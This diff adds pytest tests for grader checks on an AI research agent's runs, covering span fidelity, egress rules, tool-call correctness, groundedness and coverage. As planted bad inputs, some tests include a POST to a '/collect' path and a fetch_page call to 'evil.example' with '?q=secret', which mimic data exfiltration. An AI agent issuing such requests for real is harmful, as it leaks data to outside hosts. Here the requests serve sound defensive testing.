@@ -1,0 +1,197 @@
+"""Each deterministic check passes on a real offline run and fails on a planted bad input."""
+
+from __future__ import annotations
+
+from agent.evidence import EgressEvent
+from agent.record import TraceEntry
+from agent.tool_schema import ToolError
+from graders.gate import (
+    GoldenFact,
+    GoldenQuestion,
+    check_coverage,
+    check_forbidden_actions,
+    check_groundedness,
+    check_span_fidelity,
+    check_tool_calls,
+    exit_code_for,
+    fact_found,
+    gated_row,
+    validate_record_draft,
+    view_from_record,
+)
+from graders.gate_config import GateConfig
+from graders.verdict import Verdict
+
+CFG = GateConfig()
+
+
+def _view(record, env):
+    return view_from_record(record, question_id="q04", allow_hosts=env.allow_hosts)
+
+
+def _row(rows, metric):
+    return next(r for r in rows if r.name.endswith(metric))
+
+
+def test_real_run_passes_deterministic_checks(real_run):
+    rec, env, _ = real_run
+    v = _view(rec, env)
+    assert v.spans and v.calls and v.egress
+    assert validate_record_draft(v) is None
+    assert check_span_fidelity([v], env.store.text, CFG)[0].passed
+    assert check_forbidden_actions([v], CFG)[0].passed
+    assert _row(check_tool_calls([v], CFG), "duplicate_fetches").passed
+
+
+def test_span_text_not_matching_snapshot_fails_span_fidelity(real_run):
+    rec, env, _ = real_run
+    bad = rec.model_copy(deep=True)
+    bad.spans[0].text = bad.spans[0].text.replace("Smith", "Smyth", 1) + " "
+    row = check_span_fidelity([_view(bad, env)], env.store.text, CFG)[0]
+    assert row.status == "fail" and row.value < 1 and "differs from snapshot" in row.detail
+    missing = rec.model_copy(deep=True)
+    missing.spans[0].doc_id = "doc_0000000000000000"
+    row = check_span_fidelity([_view(missing, env)], env.store.text, CFG)[0]
+    assert row.status == "fail" and "missing" in row.detail
+
+
+def test_post_in_trace_fails_forbidden_actions(real_run):
+    rec, env, _ = real_run
+    host = env.allow_hosts[0]
+    bad = rec.model_copy(deep=True)
+    bad.egress.append(
+        EgressEvent(host=host, method="POST", url=f"https://{host}/collect", decision="allowed")
+    )
+    row = check_forbidden_actions([_view(bad, env)], CFG)[0]
+    assert row.status == "fail" and row.value == 1 and "POST" in row.detail
+
+
+def test_non_allowlisted_host_composed_url_and_budget_overrun_fail(real_run):
+    rec, env, _ = real_run
+    bad = rec.model_copy(deep=True)
+    bad.egress.append(
+        EgressEvent(
+            host="evil.example", method="GET", url="https://evil.example/x", decision="allowed"
+        )
+    )
+    bad.trace.append(
+        TraceEntry(
+            step=99,
+            kind="tool",
+            tool="fetch_page",
+            arguments={"url": "https://evil.example/?q=secret"},
+        )
+    )
+    bad.metrics.fetches = bad.config.budgets.fetches + 3
+    row = check_forbidden_actions([_view(bad, env)], CFG)[0]
+    assert row.status == "fail" and row.value == 3
+    # A refused attempt is the control working, not a forbidden action.
+    ok = rec.model_copy(deep=True)
+    ok.egress.append(
+        EgressEvent(
+            host="evil.example", method="GET", url="https://evil.example/", decision="refused"
+        )
+    )
+    row = check_forbidden_actions([_view(ok, env)], CFG)[0]
+    assert row.passed and "1 attempts refused" in row.detail
+
+
+def test_foreign_span_id_or_missing_draft_fails_schema(real_run):
+    rec, env, _ = real_run
+    bad = rec.model_copy(deep=True)
+    bad.draft.claims[0].span_ids = ["span_ffffffffffffffff"]
+    assert "not from this run" in validate_record_draft(_view(bad, env))
+    none = rec.model_copy(deep=True)
+    none.draft = None
+    assert validate_record_draft(_view(none, env)) == "no draft submitted"
+
+
+def test_tool_call_correctness_fails_on_duplicates_retries_and_overlap(real_run):
+    rec, env, _ = real_run
+    bad = rec.model_copy(deep=True)
+    first_fetch = next(t for t in bad.trace if t.tool == "fetch_page")
+    search = next(t for t in bad.trace if t.tool == "web_search")
+    doc = next(t for t in bad.trace if t.tool == "extract_quote").arguments["doc_id"]
+    n = 100
+    for _ in range(2):
+        bad.trace.append(first_fetch.model_copy(update={"step": (n := n + 1)}))
+        bad.trace.append(search.model_copy(update={"step": (n := n + 1)}))
+    for _ in range(6):  # six quotes that fail on the first try, each retried successfully
+        err = ToolError(error="LOCATOR_NOT_FOUND", message="x", retryable=True)
+        bad.trace.append(TraceEntry(step=(n := n + 1), kind="tool", tool="extract_quote",
+                                    arguments={"doc_id": doc, "locator": "x" * 12}, ok=False, error=err))  # fmt: skip
+        bad.trace.append(
+            TraceEntry(
+                step=(n := n + 1), kind="tool", tool="extract_quote", arguments={"doc_id": doc}
+            )
+        )
+    rows = check_tool_calls([_view(bad, env)], CFG)
+    assert (
+        _row(rows, "duplicate_fetches").status == "fail"
+        and _row(rows, "duplicate_fetches").value == 2
+    )
+    assert _row(rows, "max_overlapping_searches_per_run").status == "fail"
+    assert _row(rows, "first_try_quote_success").status == "fail"
+
+
+def test_unsupported_published_claim_fails_groundedness(real_run):
+    rec, env, _ = real_run
+    good = rec.model_copy(deep=True)
+    for c in good.answer.claims:
+        c.status = "published"
+        c.verdict = Verdict(verdict="SUPPORTED", judge="rules")
+    rows = check_groundedness([_view(good, env)], CFG)
+    assert all(r.status in ("pass", "reported") for r in rows), rows
+    bad = rec.model_copy(deep=True)
+    for c in bad.answer.claims:
+        c.status = "published"
+        c.verdict = Verdict(verdict="NOT_SUPPORTED", judge="rules")
+    rows = check_groundedness([_view(bad, env)], CFG)
+    assert _row(rows, "published").status == "fail" and _row(rows, "published").value == 0
+    assert _row(rows, "pre_prune_supported").status == "fail"
+    dropped = rec.model_copy(deep=True)
+    for c in dropped.answer.claims:
+        c.status = "dropped"
+    rows = check_groundedness([_view(dropped, env)], CFG)
+    assert _row(rows, "drop_rate").status == "fail"
+    assert (
+        _row(rows, "published").status == "fail"
+    )  # nothing published: nothing to measure is a fail
+
+
+def test_coverage_reports_and_gates_when_configured(real_run):
+    rec, env, _ = real_run
+    q = GoldenQuestion(
+        id="q04",
+        question=rec.question,
+        expected=[GoldenFact(fact="Marion died on 24 January 1957, aged 66")],
+    )
+    cfg = GateConfig.model_validate({"thresholds": {"coverage": 1.0, "unanswerable_gaps": 1.0}})
+    v = _view(rec, env)
+    rows = check_coverage([v], {"q04": q}, CFG)
+    assert rows[0].status == "reported"
+    found = fact_found(q.expected[0].fact, [c.text for c in v.claims if c.status == "published"])
+    row = check_coverage([v], {"q04": q}, cfg)[0]
+    assert row.status == ("pass" if found else "fail")
+    # An unanswerable question answered without a gap fails the gap check.
+    unans = GoldenQuestion(id="q04", question=rec.question, answerable=False)
+    no_gap = rec.model_copy(deep=True)
+    no_gap.answer.gaps = []
+    row = check_coverage([_view(no_gap, env)], {"q04": unans}, cfg)[1]
+    assert row.status == "fail" and row.value == 0
+
+
+def test_fact_matching():
+    assert fact_found("She was 78", ["Elizabeth Patterson died Saturday. She was 78."])
+    assert not fact_found("She was 78", ["She was 87 when she died."])  # numbers must match
+    assert not fact_found("Todd Watson hired as sixth head coach", ["The team hired a coach."])
+
+
+def test_exit_codes():
+    ok = gated_row("x", "m", 1.0, ">=", 0.9, "")
+    fail = gated_row("y", "m", 0.1, ">=", 0.9, "")
+    assert exit_code_for([ok], ["x"]) == 0 and exit_code_for([ok, fail], ["x"]) == 1
+    from graders.gate import error_row
+
+    assert exit_code_for([fail, error_row("x", "judge unreachable")], ["x"]) == 2
+    assert exit_code_for([ok, error_row("z", "optional")], ["x"]) == 0
